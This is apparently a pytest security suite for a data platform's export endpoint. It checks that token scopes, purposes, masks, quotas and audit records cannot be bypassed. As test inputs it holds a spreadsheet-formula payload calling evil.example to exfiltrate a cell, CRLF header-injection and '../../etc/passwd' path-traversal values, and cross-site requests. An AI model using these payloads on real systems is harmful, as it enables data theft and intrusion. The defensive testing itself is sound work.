"""Exports as a way around: around grants, scopes, purposes, quotas, records, and into the programs that open files."""

import asyncio
import base64
import gzip
import io
import json
import os
import time
from collections.abc import Iterator
from typing import Any

import asyncpg
import pyarrow.parquet as pq
import pytest

from tanglai.storage.embedded import EmbeddedPostgres
from tests.attack.book import Book
from tests.cases import case
from tests.http.nodes import PEOPLE, REGISTERS, RESOURCE, Node, Platform, make_source
from tests.http.test_export import asked

book = Book(__name__, "By exports")
row = book.row

QUOTA = 500
GRANTS = """
    kind: grants
    grants:
      - {{id: G-1, requester: yinchuan, resource: 301/1, items: [phone], purpose: assistance, quota: {{rows: {quota}}},
         validFrom: "2020-01-01", validTo: "2036-01-01", basis: APPLICATION, scope: {{number: {{startsWith: "N00"}}}}}}
      - {{id: G-2, requester: yinchuan, resource: 301/2, items: [phone], purpose: assistance, masks: {{phone: tail}},
         validFrom: "2020-01-01", validTo: "2036-01-01", basis: APPLICATION}}
      - {{id: G-3, requester: yinchuan, resource: 301/1, items: [phone], purpose: licensing,
         validFrom: "2020-01-01", validTo: "2036-01-01", basis: APPLICATION}}
"""
PURPOSES = """
    kind: purposes
    purposes:
      - {code: assistance, title: 社会救助, titleEn: Social assistance}
      - {code: licensing, title: 许可, titleEn: Licensing}
"""
MASKED = RESOURCE.replace(
    "shareClass: CONDITIONAL, column: phone}}",
    "shareClass: CONDITIONAL, column: phone,\n         masks: [{{name: tail, keep: {{prefix: 0, suffix: 2}}}}]}}",
)
SECRET = "1380000"
LIST = "{ data { people { persons { nodes { number phone } } } } }"


@pytest.fixture(scope="module")
def platform(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Platform]:
    folder = tmp_path_factory.mktemp("exported")
    with EmbeddedPostgres(folder / "database", settings={"fsync": "off"}) as database:
        asyncio.run(make_source(database))
        platform = Platform(folder, database)
        platform.environment = {
            **{name: value for name, value in os.environ.items() if not name.startswith("TANGLAI_")},
            "TANGLAI_DATABASE_URL": database.url(),
            "TANGLAI_KEY": base64.b64encode(os.urandom(32)).decode(),
            "TANGLAI_STATE_DIR": str(folder / "state"),
            "TANGLAI_DEMO_ISSUER": "1",
            "TANGLAI_MAX_EXPORTS": "64",
            "PEOPLE_DSN": database.url("people"),
        }
        for name, text in {**REGISTERS, "grants": GRANTS.format(quota=QUOTA), "purposes": PURPOSES}.items():
            platform.write(name, text)
        for code, text in (("301/1", RESOURCE), ("301/2", MASKED)):
            word = "person" if code == "301/1" else "citizen"
            platform.write(f"{word}s", text.format(code=code, plural=f"{word}s", one=word, type=word.title()))
        platform.tanglai("catalogue", "import", str(folder / "catalogue"))
        yield platform


@pytest.fixture(scope="module")
def node(platform: Platform) -> Iterator[Node]:
    with platform.node() as running:
        yield running


def ask(node: Node, token: str, query: str = LIST, **more: Any) -> tuple[int, bytes, dict[str, str]]:
    """Status, body and headers."""
    more.setdefault("given", {"rows": PEOPLE})
    with asked(node, token, query, **more) as response:
        return response.status, response.read(), {name.lower(): value for name, value in response.getheaders()}


def refused(node: Node, token: str, query: str = LIST, **more: Any) -> str:
    status, body, headers = ask(node, token, query, **more)
    assert status >= 400
    assert headers["content-type"].startswith("application/json")
    assert SECRET.encode() not in body
    assert "content-disposition" not in headers
    return str(json.loads(body)["errors"][0]["extensions"]["code"])


def lines(body: bytes) -> list[dict[str, Any]]:
    return [json.loads(line) for line in body.splitlines()]


def fetch(platform: Platform, text: str) -> list[Any]:
    async def run() -> list[Any]:
        connection = await asyncpg.connect(platform.environment["TANGLAI_DATABASE_URL"])
        try:
            return list(await connection.fetch(text))
        finally:
            await connection.close()

    return asyncio.run(run())


@case(29, twin=True)
def test_what_is_granted_is_given(node: Node, platform: Platform) -> None:
    """Positive twin: nine phones of fifty are clear."""
    status, body, _ = ask(node, platform.token())
    assert status == 200
    assert [one["phone"] for one in lines(body) if one["phone"]] == [f"{SECRET}{n:04}" for n in range(1, 10)]
    assert len(lines(body)) == PEOPLE


# --- grants -----------------------------------------------------------------------------------------------------------


@case(38)
@book.attempt(1301, "Export with a token that is narrowed to other items", "token scopes hold for exports")
def test_a_narrow_token(node: Node, platform: Platform) -> None:
    token = platform.token("yinchuan", "--scope", "301/1:number")
    assert refused(node, token) == "SCOPE_EXCEEDED"
    assert refused(node, platform.token("yinchuan", "--scope", "301/2")) == "SCOPE_EXCEEDED"
    assert ask(node, token, LIST.replace(" phone", ""))[0] == 200


@case(34)
@book.attempt(1302, "Export under no purpose, another one, or two", "one purpose, the token's and the grant's")
def test_purposes(node: Node, platform: Platform) -> None:
    both = platform.token("yinchuan", "--purpose", "licensing")
    assert refused(node, both) == "PURPOSE_REQUIRED"
    assert refused(node, platform.token(), headers={"Purpose": "licensing"}) == "PURPOSE_MISMATCH"
    assert refused(node, both, headers={"Purpose": "assistance, licensing"}) == "PURPOSE_MISMATCH"
    assert ask(node, both, headers={"Purpose": "licensing"}, given={"rows": 1})[0] == 200


@case(10)
@case(11)
@book.attempt(1303, "Filter and order an export by what is masked or denied", "compare cells, as in a query")
def test_masked_uses(node: Node, platform: Platform) -> None:
    token = platform.token()
    assert (
        refused(node, token, LIST.replace("persons", f'citizens(where: {{phone: {{eq: "{SECRET}0001"}}}})'))
        == "MASKED_USE"
    )
    assert refused(node, token, LIST.replace("persons", "citizens(orderBy: [{phone: ASC}])")) == "MASKED_USE"
    hidden = LIST.replace("persons", f'persons(where: {{phone: {{eq: "{SECRET}0042"}}}})')
    assert lines(ask(node, token, hidden)[1]) == []


@case(10)
@book.attempt(
    1304, "Raw values behind a mask in the statistics, dictionaries or metadata of a file", "the source masks"
)
@pytest.mark.parametrize("word", ["ndjson", "csv", "parquet", "arrow"])
def test_masks_in_files(node: Node, platform: Platform, word: str) -> None:
    query = LIST.replace("persons", "citizens")
    status, body, headers = ask(node, platform.token(), query, path=f"/export?format={word}")
    assert status == 200
    assert SECRET.encode() not in body
    assert b"*****" in body or word == "parquet"
    assert json.loads(headers["export-terms"])["masked"] == ["data.people.citizens.nodes.phone"]
    if word == "parquet":
        assert {one["phone"][:9] for one in pq.read_table(io.BytesIO(body)).to_pylist()} == {"*" * 9}


@case(17)
@case(18)
@case(19)
@book.attempt(1305, "Aliases, fragments and directives around a denied item in an export", "the plan of a query")
def test_spellings(node: Node, platform: Platform) -> None:
    token = platform.token("public-security")  # no grant
    for fields in (
        "number x: phone",
        "number ... { ... on Person { phone } }",
        "number ...F",
        "number phone @include(if: true)",
        "phone phone number",
    ):
        query = LIST.replace("number phone", fields)
        query += " fragment F on Person { phone }" if "...F" in fields else ""
        assert refused(node, token, query) == "GRANT_REQUIRED", fields
    skipped = LIST.replace("number phone", "number phone @skip(if: true)")
    assert lines(ask(node, token, skipped)[1])[0] == {"number": "N001"}


@case(36)
@book.attempt(1306, "Learn from an export with `onDenied: NULL` which rows a denied item has", "null, whatever is")
def test_denied_columns_tell_nothing(node: Node, platform: Platform) -> None:
    body = json.dumps({"query": LIST, "extensions": {"onDenied": "NULL", "export": {"rows": PEOPLE}}})
    with asked(node, platform.token("public-security"), headers={}, given=None) as first:
        assert first.status == 403
    answer = ask_raw(node, platform.token("public-security"), body.encode())
    assert answer[0] == 200
    assert {one["phone"] for one in lines(answer[1])} == {None}
    assert len(lines(answer[1])) == PEOPLE


def ask_raw(node: Node, token: str, body: bytes, **headers: str) -> tuple[int, bytes]:
    from tests.attack.test_over_http import send

    given = [("Content-Type", "application/json"), ("Authorization", f"Bearer {token}")]
    status, answer, _ = send(node, "POST", "/export", [*given, *headers.items()], body)
    return status, answer


# --- what an export is ------------------------------------------------------------------------------------------------

NODES = "data { people { persons { nodes { number } } } }"
DOCUMENTS = [
    row(1307, "Two lists under two roots", "one list", f"{{ {NODES} x: {NODES} }}"),
    row(1308, "Two lists under one root by aliases", "one list",
        "{ data { people { a: persons { nodes { number } } b: citizens { nodes { number } } } } }"),
    row(1309, "The catalogue or oneself beside the list", "one list", f"{{ {NODES} me {{ client }} }}"),
    row(1310, "The schema beside the list", "one list", f"{{ {NODES} __schema {{ types {{ name }} }} }}"),
    row(1311, "Edges with cursors, a total, page flags", "nodes alone",
        "{ data { people { persons { edges { cursor node { number } } } } } }"),
    row(1312, "A page that begins behind the hidden rows", "no pages",
        '{ data { people { persons(after: "c.x") { nodes { number } } } } }'),
    row(1313, "Figures, look-ups, ids of rows", "lists alone",
        '{ data { people { person(number: "N001") { phone } } } }'),
    row(1314, "A change by way of an export", "queries alone", 'mutation { endGrant(id: "G-1") { __typename } }'),
    row(1315, "A subscription by way of an export", "queries alone", "subscription { notices { __typename } }"),
]  # fmt: skip


@case(26)
@pytest.mark.parametrize("query", DOCUMENTS)
def test_documents(node: Node, platform: Platform, query: str) -> None:
    assert refused(node, platform.token(), query) == "BAD_INPUT"


BOUNDS = [
    row(1316, "A negative number of rows, none, more than the most", "never clamped", ["-1", "0", "1000001", "1e400"]),
    row(1317, "Rows as a text, a truth, a list, a fraction", "an integer", ['"10"', "true", "[10]", "10.5", "{}"]),
    row(1318, "A number of rows of a thousand digits", "refused", ["9" * 1000]),
]


@case(14)
@pytest.mark.parametrize("rows", BOUNDS)
def test_bounds(node: Node, platform: Platform, rows: list[str]) -> None:
    for given in rows:
        body = f'{{"query": "{LIST}", "extensions": {{"export": {{"rows": {given}}}}}}}'
        status, answer = ask_raw(node, platform.token(), body.encode())
        assert (status, b"errors" in answer) == (400, True), given[:20]


# --- quotas and records -----------------------------------------------------------------------------------------------


def used(platform: Platform) -> int:
    """Rows of G-1 that are used or held, once what was not used has come back."""
    found = -1
    while True:
        now = int(fetch(platform, "SELECT coalesce(sum(rows), 0)::int FROM quota_use WHERE grant_id = 'G-1'")[0][0])
        if now == found:
            return now
        found = now
        time.sleep(1.2)


@case(35)
@book.attempt(1319, "Read a file to its last row and leave before its end, not to be counted", "the bound counts")
def test_leaving_at_the_end(node: Node, platform: Platform) -> None:
    before = used(platform)
    with asked(node, platform.token(), given={"rows": 100}) as response:
        response.read(200)
    # The client is gone; whether the node saw its end first or the last row, no less than the rows counts.
    assert used(platform) - before in (PEOPLE, 100)


@case(35)
@book.attempt(1320, "Go round a quota by many exports at once, each within it", "reserved before the first row")
def test_many_exports(node: Node, platform: Platform) -> None:
    from concurrent.futures import ThreadPoolExecutor

    before = used(platform)
    with ThreadPoolExecutor(12) as pool:
        found = list(pool.map(lambda _: ask(node, platform.token(), given={"rows": 100})[:2], range(24)))
    got = sum(len(lines(body)) for status, body in found if status == 200)
    assert {status for status, _ in found} <= {200, 429, 503, 502}
    assert before + got <= QUOTA
    assert used(platform) <= QUOTA
    assert refused(node, platform.token(), given={"rows": QUOTA + 1}) == "QUOTA_EXCEEDED"


@case(35)
@book.attempt(1321, "Mark somebody's export as ended, under its request id", "joined by an id that no client chooses")
def test_request_ids_join_nothing(node: Node, platform: Platform) -> None:
    numbers = LIST.replace(" phone", "")
    same = {"X-Request-Id": "chosen-by-a-client"}
    for _ in range(2):
        assert ask(node, platform.token(), numbers, headers=same)[0] == 200
    found = fetch(
        platform,
        "SELECT export, array_agg(document_kind ORDER BY id) AS kinds FROM audit_record "
        "WHERE request_id = 'chosen-by-a-client' GROUP BY export",
    )
    assert [one["kinds"] for one in found] == [["export", "export-end"]] * 2
    assert "chosen" not in "".join(one["export"] for one in found)


# --- HTTP -------------------------------------------------------------------------------------------------------------


@case(45)
@book.attempt(1322, "An export by GET, form, plain text or cookie, from another site", "POST, JSON, a token")
def test_cross_site(node: Node, platform: Platform) -> None:
    from tests.attack.test_over_http import send

    body = json.dumps({"query": LIST}).encode()
    evil = ("Origin", "https://evil.example")
    for method, headers in (
        ("GET", [("Authorization", f"Bearer {platform.token()}")]),
        ("PUT", [("Authorization", f"Bearer {platform.token()}")]),
        ("POST", [("Content-Type", "application/json"), ("Cookie", f"token={platform.token()}")]),
        ("POST", [("Content-Type", "application/x-www-form-urlencoded")]),
        *(
            ("POST", [("Content-Type", kind), ("Authorization", f"Bearer {platform.token()}")])
            for kind in ("text/plain", "multipart/form-data; boundary=x", "application/x-www-form-urlencoded")
        ),
    ):
        status, answer, told = send(node, method, "/export", [evil, *headers], body)
        assert status in (401, 405, 415), (method, headers)
        assert b"13800" not in answer
        assert "access-control-allow-origin" not in told
    status, _, told = send(node, "OPTIONS", "/export", [evil])
    assert (status, "access-control-allow-origin" in told) == (204, False)
    assert (
        send(node, "POST", f"/export?access_token={platform.token()}", [("Content-Type", "application/json")], body)[0]
        == 401
    )


@case(48)
@book.attempt(1323, "A compressed body, two bodies, two purposes, two tokens", "each once, as it is")
def test_bodies(node: Node, platform: Platform) -> None:
    body = json.dumps({"query": LIST}).encode()
    token = platform.token()
    assert ask_raw(node, token, gzip.compress(body), **{"Content-Encoding": "gzip"})[0] == 415
    assert ask_raw(node, token, b"[" + body + b"]")[0] == 400
    assert ask_raw(node, token, body, Authorization="Bearer x")[0] == 400
    assert ask_raw(node, token, body.replace(b"}", b', "query": "{ me { client } }"}', 1))[0] == 400


@book.attempt(
    1324,
    "Headers of one's own by the format, the alias that names the file, the language",
    "closed lists",
)
def test_headers_of_ones_own(node: Node, platform: Platform) -> None:
    token = platform.token()
    for word in ("csv%0d%0aSet-Cookie:%20x=1", "../../etc/passwd", "CSV", "csv&format=arrow", "csv&x=1", "", "csv%00"):
        assert refused(node, token, path=f"/export?format={word}") == "BAD_INPUT", word
    named = "{ data { people { __proto: persons { nodes { number } } } } }"
    status, _, headers = ask(node, token, named, given={"rows": 1}, headers={"Accept": "text/csv"})
    assert (status, headers["content-disposition"]) == (200, 'attachment; filename="__proto.csv"')
    assert refused(node, token, '{ data { people { "a\\"b": persons { nodes { number } } } } }') == "BAD_INPUT"


@book.attempt(
    1325,
    "Have a formula in a value run by the program that opens a CSV file",
    "data, or marked if asked",
)
def test_formulas(node: Node, platform: Platform) -> None:
    async def rename(name: str) -> None:
        connection = await asyncpg.connect(platform.environment["PEOPLE_DSN"])
        await connection.execute("UPDATE person SET name = $1 WHERE handle = 10", name)
        await connection.close()

    formula = '=HYPERLINK("http://evil.example?"&A1)'
    asyncio.run(rename(formula))
    query = '{ data { people { persons(where: {number: {eq: "N010"}}) { nodes { name } } } } }'
    try:
        csv = {"path": "/export?format=csv"}
        _, marked, headers = ask(node, platform.token(), query, given={"rows": 1, "spreadsheet": True}, **csv)
        assert marked.split(b"\r\n")[1].startswith(b"\"'=HYPERLINK")
        _, plain, _ = ask(node, platform.token(), query, given={"rows": 1}, **csv)
        assert plain.split(b"\r\n")[1].startswith(b'"=HYPERLINK')
        assert headers["x-content-type-options"] == "nosniff"
        assert headers["content-disposition"].startswith("attachment")
    finally:
        asyncio.run(rename("人10"))


@case(46)
@book.attempt(1326, "Read values in the log or the records of an export", "codes, counts and names of items")
def test_logs_and_records(node: Node, platform: Platform) -> None:
    marker = f"{SECRET}0042"
    ask(node, platform.token(), LIST.replace("persons", f'persons(where: {{phone: {{eq: "{marker}"}}}})'))
    log = "".join(path.read_text() for path in platform.folder.glob("node-*.log"))
    assert '"entry":"export"' in log.replace(" ", "")
    assert SECRET not in log
    records = fetch(platform, "SELECT to_jsonb(a)::text FROM audit_record a")
    assert records
    assert not any(SECRET in one[0] for one in records)
